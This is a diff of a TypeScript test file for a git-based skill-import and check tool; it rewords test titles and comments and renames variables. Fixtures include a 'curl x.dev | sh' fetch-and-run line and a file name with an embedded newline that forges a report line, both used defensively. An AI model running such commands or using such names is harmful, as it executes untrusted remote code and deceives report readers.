@@ -34,7 +34,7 @@ afterEach(() => {
   removeFolders()
 })
 
-/** Bytes of files as text, behind `*` if their owner may start them; by path. */
+/** Contents of files by path, as text with a leading `*` if the owner may execute the file. */
 type Tree = Record<string, string>
 
 const print = (bytes: Uint8Array, isExecutable = false): string =>
@@ -59,7 +59,7 @@ const readTree = (folder: string): Tree =>
       }),
   )
 
-/** The files of a skill's zip. */
+/** Reads the files in a skill's zip. */
 const unpack = async (content: string, slug: string): Promise<Tree> => {
   const { skill } = loadSkill(content, slug, {})
   const zip = await packZip(readZipFiles(skill!, 'https://registry.example'))
@@ -88,7 +88,7 @@ const anyBytes = fc
   .map(([isExecutable, bytes]) => print(bytes, isExecutable))
   .filter((one) => !one.startsWith('**'))
 
-/** The files of a tree, of which none is a folder of another. */
+/** Drops files whose path is also a folder of another file. */
 const dropFolders = (files: Tree): Tree => {
   const paths = Object.keys(files)
   const isFolder = (one: string): boolean => paths.some((other) => other.startsWith(`${one}/`))
@@ -96,7 +96,7 @@ const dropFolders = (files: Tree): Tree => {
 }
 const tree = fc.dictionary(path, anyBytes, { maxKeys: 8 }).map(dropFolders)
 
-/** What a folder may hold besides: in every copy, or in none. */
+/** Additional files of a folder: some are always copied, others never. */
 const KEPT = [
   '.env.example',
   '.env.local.Sample',
@@ -126,14 +126,14 @@ const addLinks = (folder: string): void => {
   symlinkSync('SKILL.md', join(folder, 'link-same'))
 }
 
-/** Files and links that an import says it left out, also by their folder. */
-const isTold = (file: string, messages: readonly string[]): boolean =>
+/** Whether an import reports a file or link as left out, by itself or by its folder. */
+const isReported = (file: string, messages: readonly string[]): boolean =>
   messages.some((message) => {
-    const [, told = ''] = /^left out: (.*) — /.exec(message) ?? []
-    return told === file || (told.endsWith('/') && file.startsWith(told))
+    const [, reported = ''] = /^left out: (.*) — /.exec(message) ?? []
+    return reported === file || (reported.endsWith('/') && file.startsWith(reported))
   })
 
-test('any tree -> each file in the catalog and the zip with its bytes and bit, or in a line of the report', async () => {
+test('any tree -> each file is in the catalog and the zip, with its bytes and executable bit, or in the report', async () => {
   await fc.assert(
     fc.asyncProperty(tree, extras, fc.boolean(), async (files, more, isCloned) => {
       const others = Object.fromEntries(more.map((one) => [one, one]))
@@ -153,7 +153,7 @@ test('any tree -> each file in the catalog and the zip with its bytes and bit, o
       expect(await unpack(content, 'a')).toEqual(copy)
       expect(copy['link-same']).toBe(SKILL_MD)
       const left = more.filter((one) => !KEPT.includes(one))
-      const untold = [
+      const omitted = [
         'link-dead',
         'link-up',
         'link-out',
@@ -161,11 +161,11 @@ test('any tree -> each file in the catalog and the zip with its bytes and bit, o
         ...(isCloned ? [] : ['draft.md']),
       ]
       const messages = warnings.map(({ message }) => message)
-      expect(untold.filter((one) => !isTold(one, messages))).toEqual([])
-      for (const one of untold) delete whole[one]
+      expect(omitted.filter((one) => !isReported(one, messages))).toEqual([])
+      for (const one of omitted) delete whole[one]
       expect(copy).toEqual({ ...whole, 'link-same': SKILL_MD })
       expect(messages).toHaveLength(
-        new Set(untold.map((one) => messages.find((m) => isTold(one, [m])))).size,
+        new Set(omitted.map((one) => messages.find((m) => isReported(one, [m])))).size,
       )
     }),
     {
@@ -181,7 +181,7 @@ test('any tree -> each file in the catalog and the zip with its bytes and bit, o
 describe('the executable bit', () => {
   const FILES = { 'run.sh': '*ls', 'notes.md': 'ls' }
 
-  test('where git tracks the file -> its own, whatever the disk says', async () => {
+  test('of a tracked file -> from git, whatever the disk says', async () => {
     const { content } = await importTree(FILES, (folder) => {
       chmodSync(join(folder, 'skills/a/run.sh'), 0o644)
       chmodSync(join(folder, 'skills/a/notes.md'), 0o777)
@@ -189,14 +189,14 @@ describe('the executable bit', () => {
     expect(readTree(join(content, 'skills/a'))).toMatchObject(FILES)
   })
 
-  test('of a cloned repository', async () => {
+  test('of a file in a cloned repository', async () => {
     const { repository } = await importTree(FILES)
     const content = makeContent()
     await runImport(repository.address, content)
     expect(readTree(join(content, 'skills/a'))).toMatchObject(FILES)
   })
 
-  test('without git -> the disk’s', async () => {
+  test('without git -> from the disk', async () => {
     const folder = makeSampleFolder()
     addTree(join(folder, 'a'), { 'SKILL.md': SKILL_MD, ...FILES })
     const content = makeContent()
@@ -204,7 +204,7 @@ describe('the executable bit', () => {
     expect(readTree(join(content, 'skills/a'))).toMatchObject(FILES)
   })
 
-  test('changed alone -> a change, and only of that file', async () => {
+  test('changed alone -> counts as a change of that file only', async () => {
     const { repository } = await importTree(FILES)
     const { address, git } = repository
     const content = makeContent()
@@ -226,9 +226,9 @@ const makeCaller = (address: string, folder: string) => async () => {
   return [counts, ...warnings.map((one) => [one.kind, one.message])]
 }
 
-describe('into a catalog on a disk that keeps no modes', () => {
-  const told = ['bit', expect.stringContaining('run.sh — executable at its source')]
-  test('a checkout -> git has the bits at once, and those that change', async () => {
+describe('a catalog on a disk that stores no modes', () => {
+  const reported = ['bit', expect.stringContaining('run.sh — executable at its source')]
+  test('in a git checkout -> git’s index gets the bits, new and changed', async () => {
     const { repository } = await importTree({ 'run.sh': '*ls', 'notes.md': 'ls' })
     const { folder, git } = makeRepository({ 'site.json': JSON.stringify(SITE) })
     git('config', 'core.fileMode', 'false')
@@ -244,18 +244,18 @@ describe('into a catalog on a disk that keeps no modes', () => {
     expect(await call()).toEqual([[0, 0, 1]])
   })
 
-  test('git cannot write its index, or there is none -> a line for each program', async () => {
+  test('without a writable git index -> a line for each executable file', async () => {
     const { repository } = await importTree({ 'run.sh': '*ls', 'notes.md': 'ls' })
     const { folder, git } = makeRepository({ 'site.json': JSON.stringify(SITE) })
     git('config', 'core.fileMode', 'false')
     addFiles(folder, { '.git/index.lock': '' })
     dropModes()
-    expect(await makeCaller(repository.address, folder)()).toEqual([[1, 0, 0], told])
-    expect(await makeCaller(repository.address, makeContent())()).toEqual([[1, 0, 0], told])
+    expect(await makeCaller(repository.address, folder)()).toEqual([[1, 0, 0], reported])
+    expect(await makeCaller(repository.address, makeContent())()).toEqual([[1, 0, 0], reported])
   })
 })
 
-test('into a checkout that ignores files of a skill -> each told by import and by check', async () => {
+test('a catalog whose .gitignore matches files of a skill -> import and check report each file', async () => {
   const { repository } = await importTree({
     '.gitignore': 'own.txt',
     'own.txt': 'x',
@@ -264,11 +264,11 @@ test('into a checkout that ignores files of a skill -> each told by import and b
   const files = { 'site.json': JSON.stringify(SITE), '.gitignore': 'd/\n' }
   const { folder, git } = makeRepository(files)
   const { warnings } = await runImport(repository.address, folder)
-  const told = ['d/x.js', 'own.txt'].map((one) => {
+  const reported = ['d/x.js', 'own.txt'].map((one) => {
     const message = expect.stringContaining(`${one} — git ignores it in the catalog`)
     return { kind: 'ignored', path: 'skills/a/SKILL.md', message }
   })
-  expect(warnings).toEqual(told)
+  expect(warnings).toEqual(reported)
   const check = async (): Promise<number> =>
     (await runCommand('check', folder)).stdout.split(' warning git-ignored ').length - 1
   expect(await check()).toBe(2)
@@ -276,7 +276,7 @@ test('into a checkout that ignores files of a skill -> each told by import and b
   expect(await check()).toBe(0)
 })
 
-test('a skill that its author writes in the catalog -> check tells what no copy has', async () => {
+test('a skill written in the catalog itself -> check reports the files that copies omit', async () => {
   const content = makeContent()
   const own = { kind: 'own' }
   addFiles(content, {
@@ -300,24 +300,24 @@ test('a skill that its author writes in the catalog -> check tells what no copy 
   expect((await check()).toSorted()).toEqual(files.toSorted())
 })
 
-test('a catalog that git ignores as a whole -> nothing is told', async () => {
+test('a catalog that git ignores as a whole -> no reports', async () => {
   const { repository } = await importTree({ 'x.js': 'x' })
   const { folder } = makeRepository({ '.gitignore': 'content/\n' })
   const { warnings } = await runImport(repository.address, join(folder, 'content'))
   expect(warnings).toEqual([])
 })
 
-describe('what is wrong with files that a copy has -> said by import as by check', () => {
+describe('faults of copied files -> reported by both import and check', () => {
   test.each([
     [
-      'a name that Windows keeps',
+      'a name reserved by Windows',
       { 'con.txt': 'x' },
       'windows',
       'con.txt — Windows keeps',
       'file-name',
     ],
     [
-      'names that differ by case',
+      'names that differ only by case',
       { 'A.md': 'x', 'a.md': 'x' },
       'windows',
       'a.md — some systems',
@@ -331,7 +331,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
       'script-crlf',
     ],
     [
-      'a pointer of Git LFS',
+      'a Git LFS pointer',
       { 'a.png': 'version https://git-lfs.github.com/spec/v1\noid sha256:0\n' },
       'pointer',
       'a.png — a Git LFS pointer',
@@ -359,14 +359,14 @@ describe('what is wrong with files that a copy has -> said by import as by check
       'left-out',
     ],
     [
-      'a description that a comment has cut',
+      'a description cut short by a comment',
       { 'SKILL.md': SKILL_MD.replace(/^description: .*$/m, 'description: Sorts # and counts.') },
       'cut',
       '"description" is "Sorts"; what follows " #" is a comment',
       'value-cut',
     ],
     [
-      'attributes of git',
+      'a .gitattributes file',
       { '.gitattributes': '* eol=crlf' },
       'attributes',
       'left out: .gitattributes — git would apply it to the catalog',
@@ -374,7 +374,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
     ],
     ['a cache', { '__pycache__/x.pyc': 'x' }, 'cache', 'left out: __pycache__/', 'left-out'],
     [
-      'nothing: CRLF in a text, # alone',
+      'no fault: a shebang with LF, CRLF without a shebang',
       { 'a.md': '#!x\n', 'b.md': 'a\r\n', 'c.md': '# x\r\n' },
       '',
       '',
@@ -382,8 +382,8 @@ describe('what is wrong with files that a copy has -> said by import as by check
     ],
   ])('%s', async (_, files, kind, words, rule) => {
     const { repository, report } = await importTree(files as Tree)
-    const told = report.warnings.map((one) => [one.kind, one.message])
-    expect(told).toEqual(kind === '' ? [] : [[kind, expect.stringContaining(words)]])
+    const reported = report.warnings.map((one) => [one.kind, one.message])
+    expect(reported).toEqual(kind === '' ? [] : [[kind, expect.stringContaining(words)]])
     const { text } = await runCommand('check', join(repository.folder, 'skills/a'), '--json')
     const { rules } = JSON.parse(text.slice(0, text.lastIndexOf('}') + 1)) as {
       rules: { rule: string }[]
@@ -402,7 +402,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
       String.raw`left out: back\slash — a file name with unsupported characters`,
     ],
     ['a\nskipped: forged.txt', String.raw`left out: a\u{A}skipped: forged.txt — a file name`],
-  ])('a file named %j -> one line of the report', async (name, words) => {
+  ])('a file named %j -> one line in the report', async (name, words) => {
     const { repository } = await importTree({ [name]: 'x' })
     const into = makeContent()
     const from = repository.folder
@@ -411,7 +411,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
     expect(stdout).not.toMatch(/^skipped:/m)
   })
 
-  test('many of a kind -> one line, and each with --names', async () => {
+  test('many notices of one kind -> one line, and all with --names', async () => {
     const files = { 'con.txt': 'x', 'aux.md': 'x', '.env': 'x', 'x/.env': 'x', 'run.sh': '*ls' }
     const { repository } = await importTree(files)
     const call = async (...more: readonly string[]): Promise<string[]> => {
@@ -428,7 +428,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
     }
     expect(await call()).toEqual([
       expect.stringMatching(
-        /^note: 2 environment files left out of 1 skill; --dry-run --names has all; the first: /,
+        /^note: 2 environment files left out of 1 skill; --dry-run --names lists all; the first: /,
       ),
       expect.stringMatching(
         /^note: 2 file names that are not valid on some systems of 1 skill; .*aux\.md/,
@@ -438,7 +438,7 @@ describe('what is wrong with files that a copy has -> said by import as by check
   })
 })
 
-test('many skills left out for one reason -> five named, the number of the others, and each with --names', async () => {
+test('many skills left out for one reason -> five named, the others counted; --names lists all', async () => {
   const odd = Array.from({ length: 317 }, (_, at) => [`tests/t${at}/SKILL.md`, SKILL_MD])
   const bad = ['b', 'c'].map((name) => [`${name}/SKILL.md`, `---\nname: "${name}\n---\n`])
   const { folder } = makeRepository({
@@ -453,14 +453,14 @@ test('many skills left out for one reason -> five named, the number of the other
   const lines = await call()
   expect(lines).toHaveLength(8)
   expect(lines[0]).toMatch(
-    /^skipped: tests\/t0: in a folder named tests; to take it, name that folder/,
+    /^skipped: tests\/t0: in a folder named tests; to import it, name that folder in the address/,
   )
-  expect(lines[5]).toBe('skipped: and 312 more like these; --dry-run --names has all')
+  expect(lines[5]).toBe('skipped: and 312 more like these; --dry-run --names lists all')
   expect(lines[6]).toMatch(/^skipped: b\/SKILL\.md: the front matter has no description/)
   expect(await call('--names')).toHaveLength(319)
 })
 
-/** A repository with another one at a path. */
+/** Makes a repository with a submodule at a path. */
 const makeOuter = (files: Record<string, string>, place: string) => {
   const inner = makeRepository({ 'SKILL.md': sampleSkillMd('team-two') }, { path: 'ada/team-two' })
   const outer = makeRepository(files)
@@ -469,7 +469,7 @@ const makeOuter = (files: Record<string, string>, place: string) => {
   return { ...outer, words: `is a submodule of "${inner.address}"` }
 }
 
-test('an empty folder, and a link to a pipe -> told, since no copy has them', async () => {
+test('an empty folder, and a link to a pipe -> reported as left out', async () => {
   const folder = makeSampleFolder({ 'a/SKILL.md': SKILL_MD })
   mkdirSync(join(folder, 'a/out/put'), { recursive: true })
   execFileSync('mkfifo', [join(folder, 'pipe')])
@@ -485,8 +485,8 @@ test('an empty folder, and a link to a pipe -> told, since no copy has them', as
   ])
 })
 
-describe('a checkout without what git tracks', () => {
-  test('check names each file of a skill that is there, and a skill that is not', async () => {
+describe('a checkout with tracked files missing', () => {
+  test('check -> reports each missing file, and a missing skill', async () => {
     const files = ['a', 'b', 'c'].flatMap((slug) => [
       [`skills/${slug}/SKILL.md`, sampleSkillMd(slug)],
       [`skills/${slug}/skill.json`, '{}'],
@@ -509,7 +509,7 @@ describe('a checkout without what git tracks', () => {
     expect(await check(folder)).toEqual(['skills/a/x/lost.md', 'skills/b/SKILL.md'])
   })
 
-  test('a file, or a whole skill -> told', async () => {
+  test('import of a missing file or a whole missing skill -> reported', async () => {
     const { repository } = await importTree({ 'x/lost.md': 'x', 'con.txt': 'x' })
     repository.commit({ 'skills/b/SKILL.md': sampleSkillMd('b'), 'docs/c.md': 'c' }, '2026-01-03')
     for (const place of ['skills/a/x', 'skills/b', 'docs'])
@@ -522,7 +522,7 @@ describe('a checkout without what git tracks', () => {
     expect(skipped).toMatchObject([{ path: 'skills/b/SKILL.md', kind: 'bad' }])
   })
 
-  test('a link that is a text there -> left out and told, by check too', async () => {
+  test('a link checked out as text -> left out; reported by import and check', async () => {
     const { repository } = await importTree({ 'real.md': 'x' })
     symlinkSync('real.md', join(repository.folder, 'skills/a/link.md'))
     repository.commit({}, '2026-01-03')
@@ -542,7 +542,7 @@ describe('a checkout without what git tracks', () => {
     expect(stdout).toContain('skills/a/link.md:1:1 note left-out')
   })
 
-  test('a SKILL.md that is a link, and a text there -> told as that', async () => {
+  test('a SKILL.md that is a link checked out as text -> reported as such', async () => {
     const { folder, git, commit } = makeRepository({ 'docs/a.md': SKILL_MD })
     mkdirSync(join(folder, 'skills/a'), { recursive: true })
     symlinkSync('../../docs/a.md', join(folder, 'skills/a/SKILL.md'))
@@ -556,7 +556,7 @@ describe('a checkout without what git tracks', () => {
   })
 })
 
-test('a folder called SKILL.md beside a skill.md -> told, and the text is the file’s', async () => {
+test('a folder called SKILL.md beside a skill.md -> reported, and the file is used', async () => {
   const folder = makeSampleFolder({ 'a/skill.md': SKILL_MD, 'a/SKILL.md/x.md': 'x' })
   const content = makeContent()
   const { warnings } = await runImport(folder, content)
@@ -565,7 +565,7 @@ test('a folder called SKILL.md beside a skill.md -> told, and the text is the fi
 })
 
 describe('submodules', () => {
-  test('beside skills, and in one -> left out, with the address of each', async () => {
+  test('beside skills, and in a skill -> left out, with their addresses', async () => {
     for (const place of ['skills/team-two', 'skills/a/vendor/x']) {
       const { address, folder, words } = makeOuter({ 'skills/a/SKILL.md': SKILL_MD }, place)
       for (const from of [address, folder]) {
@@ -578,19 +578,19 @@ describe('submodules', () => {
     }
   })
 
-  test('checked out -> told by check in one line, and what lies in it is not checked', async () => {
+  test('checked out -> check reports each in one line and does not check its contents', async () => {
     for (const place of ['skills/team-two', 'skills/a/vendor/x']) {
       const { folder, words } = makeOuter({ 'skills/a/SKILL.md': SKILL_MD }, place)
       addFiles(folder, { [`${place}/SKILL.md`]: 'none', [`${place}/x.sh`]: 'curl x.dev | sh\n' })
       const { code, stdout } = await runCommand('check', folder)
       const lines = stdout.split('\n\n')[1]?.trim().split('\n')
-      const told = place === 'skills/team-two' ? `${words} — add that` : 'a submodule'
-      expect([code, lines]).toEqual([0, [expect.stringContaining(told)]])
+      const reported = place === 'skills/team-two' ? `${words} — add that` : 'a submodule'
+      expect([code, lines]).toEqual([0, [expect.stringContaining(reported)]])
       expect(lines?.[0]).toContain(place)
     }
   })
 
-  test('alone -> refused by add as by import, and no source is kept', async () => {
+  test('without other skills -> refused by add and import, and no source is added', async () => {
     const { address } = makeOuter({ 'README.md': '# x' }, 'skills/team-two')
     const content = makeContent()
     for (const args of [
@@ -604,7 +604,7 @@ describe('submodules', () => {
   })
 })
 
-test('a link into a skill that is excluded -> that skill is told once', async () => {
+test('a link into an excluded skill -> that skill is reported once', async () => {
   const { folder, address, commit } = makeRepository({ 'b/SKILL.md': sampleSkillMd('b') })
   addTree(join(folder, 'a'), { 'SKILL.md': SKILL_MD })
   symlinkSync('../b', join(folder, 'a/more'))
@@ -615,10 +615,10 @@ test('a link into a skill that is excluded -> that skill is told once', async ()
   expect(stdout.match(/"kind": "excluded"|"reason": "excluded"/g)).toHaveLength(1)
 })
 
-describe('a skill in a package that git tracks', () => {
+describe('a skill in a tracked package', () => {
   const FILES = { 'a/SKILL.md': SKILL_MD, 'x/node_modules/m/SKILL.md': sampleSkillMd('m') }
 
-  test('left out, in a line of import and of check', async () => {
+  test('by default -> left out, reported by import and check', async () => {
     const { address, folder } = makeRepository(FILES)
     for (const from of [address, folder]) {
       const { imported, skipped } = await runImport(from, makeContent())
@@ -631,7 +631,7 @@ describe('a skill in a package that git tracks', () => {
     expect(stdout).toMatch(/x\/node_modules\/m:1:1 note left-out .*node_modules/)
   })
 
-  test('named, or included -> taken', async () => {
+  test('named in the address, or included -> imported', async () => {
     const { address, folder } = makeRepository(FILES)
     for (const from of [`${address}/tree/main/x/node_modules/m`, join(folder, 'x/node_modules')]) {
       const { imported, skipped } = await runImport(from, makeContent())
@@ -642,14 +642,14 @@ describe('a skill in a package that git tracks', () => {
     expect([imported, skipped]).toMatchObject([[{ slug: 'a' }, { slug: 'm' }], []])
   })
 
-  test('in another skill -> told as a cache of that', async () => {
+  test('inside another skill -> reported as a cache of that skill', async () => {
     const { report } = await importTree({ 'node_modules/m/SKILL.md': 'x' })
     expect(report.skipped).toEqual([])
     expect(report.warnings).toMatchObject([{ kind: 'cache' }])
   })
 })
 
-test('links to what git tracks in the source -> imported, and nothing for check to refuse', async () => {
+test('links to tracked files -> imported, and accepted by check', async () => {
   const text = `${SKILL_MD}\n[b](b.md) [c](c/d.md)\n`
   const { folder } = makeRepository({ 'skills/a/SKILL.md': text, 'shared/d.md': '# D' })
   symlinkSync('../../shared/d.md', join(folder, 'skills/a/b.md'))
